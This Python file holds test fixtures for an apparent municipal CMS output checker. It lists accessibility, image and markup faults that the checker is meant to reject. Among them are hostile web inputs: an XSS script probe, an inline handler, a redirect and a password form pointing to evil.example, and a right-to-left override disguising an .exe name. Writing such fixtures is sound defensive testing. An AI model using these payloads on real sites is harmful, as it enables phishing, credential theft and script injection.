"""What a municipal CMS refuses, and pictures on pages."""

from __future__ import annotations

from faults import EN, HOME, JA, SITE, Batch, Fault, add, at, edit, put, whole
from spoilt_pictures import repaint

IMAGE = f"{SITE}/ja/_images/tablet-ask.png"
IMAGE_EN = f"{SITE}/en/_images/tablet-ask.png"

PAGES = Batch(
    "pages",
    (
        Fault("a heading skips a level", "cms/heading", JA, edit(JA, "<h2>手順</h2>", "<h3>手順</h3>")),
        Fault("two titles", "site/title", HOME, add(HOME, "<h1>もう一つの題</h1>")),
        Fault("a heading without words", "site/no-words", HOME, add(HOME, "<h2> </h2>")),
        Fault(
            "a table without caption", "cms/caption", EN, edit(EN, "<caption>Versions so far</caption>", "")
        ),
        Fault(
            "a table's head without scope",
            "cms/scope",
            EN,
            edit(EN, '<th scope="col">Date</th>', "<th>Date</th>"),
        ),
        Fault(
            "a table without heads",
            "cms/scope",
            HOME,
            add(HOME, "<table><caption>日程</caption><tbody><tr><td>4月</td></tr></tbody></table>"),
        ),
        Fault(
            "an embedded picture",
            "cms/data",
            HOME,
            add(
                HOME,
                '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="押すところ" width="1" height="1"></p>',
            ),
        ),
        Fault("no alt", "picture/alt", EN, edit(EN, ' alt="Screen with the button “Yes”"', "")),
        Fault(
            "a file's name as alt",
            "picture/alt",
            HOME,
            add(
                HOME,
                '<p><img src="_images/tablet-ask.png" alt="tablet-ask.png" width="720" height="398"></p>',
            ),
        ),
        Fault(
            "an alt that says nothing",
            "picture/alt",
            JA,
            edit(JA, 'alt="「はい」のボタンがある画面"', 'alt="画像"'),
        ),
        Fault("a script", "output/forbidden", HOME, add(HOME, "<script>alert(1)</script>")),
        Fault(
            "a handler",
            "output/forbidden",
            EN,
            edit(EN, '<a class="btn go" href="#step-1"', '<a onclick="go()" class="btn go" href="#step-1"'),
        ),
        Fault("a comment", "output/forbidden", HOME, add(HOME, "<p>一<!-- x -->二</p>")),
        Fault("a comment that is none", "output/forbidden", EN, add(EN, "<p>a</ x>b</p>")),
        Fault("a declaration", "output/forbidden", EN, add(EN, "<!ELEMENT p ANY>")),
        Fault("a declaration of characters", "output/forbidden", JA, add(JA, "<p><![CDATA[x]]></p>")),
        Fault("a processing instruction", "output/forbidden", HOME, add(HOME, "<?x?>")),
        Fault("NUL between letters", "output/forbidden", EN, add(EN, "<p>a\0b</p>")),
        Fault("a style", "output/forbidden", EN, add(EN, '<p style="color:red">Red</p>')),
        Fault("a frame", "output/forbidden", EN, add(EN, '<iframe src="https://yamabe.example/"></iframe>')),
        Fault(
            "a style sheet of another server",
            "edition/host",
            HOME,
            edit(HOME, 'href="tebiki.css"', 'href="https://cdn.example/a.css"'),
        ),
        Fault(
            "sent on after a while",
            "output/forbidden",
            EN,
            edit(
                EN,
                '<meta charset="utf-8">',
                '<meta charset="utf-8"><meta http-equiv="refresh" content="5;url=https://evil.example/">',
            ),
        ),
        Fault(
            "a form",
            "output/forbidden",
            EN,
            add(EN, '<form action="https://evil.example/"><input name="password"></form>'),
        ),
        Fault("a template that was not filled", "output/template", EN, add(EN, "<p>{{ certificate }}</p>")),
        Fault("a reading beside its word", "output/reading", HOME, add(HOME, "<p>｜課《か》に。</p>")),
        Fault("letters that turn the text around", "site/unseen", EN, add(EN, "<p>Open \u202egpj.exe</p>")),
        Fault("the same place twice", "output/twice", EN, add(EN, '<p id="steps">Steps</p>')),
        Fault(
            "a page in no language", "site/language", HOME, whole(edit(HOME, '<html lang="ja">', "<html>"))
        ),
    ),
    consequences=(
        "edition/https",
        "link/empty",
    ),
)
PICTURES = Batch(
    "pictures",
    (
        Fault(
            "who took it is left in", "picture/metadata", IMAGE, repaint(IMAGE, text={"Author": "山田太郎"})
        ),
        Fault("the camera is left in", "picture/metadata", IMAGE_EN, repaint(IMAGE_EN, camera="Apple")),
    ),
)
HEAVY = Batch(
    "heavy pictures",
    (
        Fault("far too heavy", "picture/heavy", IMAGE, repaint(IMAGE, noise=True)),
        Fault(
            "stretched", "picture/size", EN, edit(EN, 'width="720" height="398"', 'width="720" height="720"')
        ),
    ),
    consequences=("picture/marks",),
)
MARKS = Batch(
    "marks",
    (
        Fault("marks that nobody sees", "picture/marks", JA, at(62, repaint(IMAGE, faded=True))),
        Fault("a picture made small", "picture/coarse", EN, at(67, repaint(IMAGE_EN, size=(90, 50)))),
    ),
    consequences=("picture/marks",),
)
BROKEN = Batch(
    "broken",
    (
        Fault("no picture at all", "picture/no-png", IMAGE, put(IMAGE, b"GIF89a")),
        Fault("cut off in the middle", "picture/no-png", IMAGE_EN, put(IMAGE_EN, b"\x89PNG\r\n\x1a\n")),
    ),
)
BATCHES = (PAGES, PICTURES, HEAVY, MARKS, BROKEN)
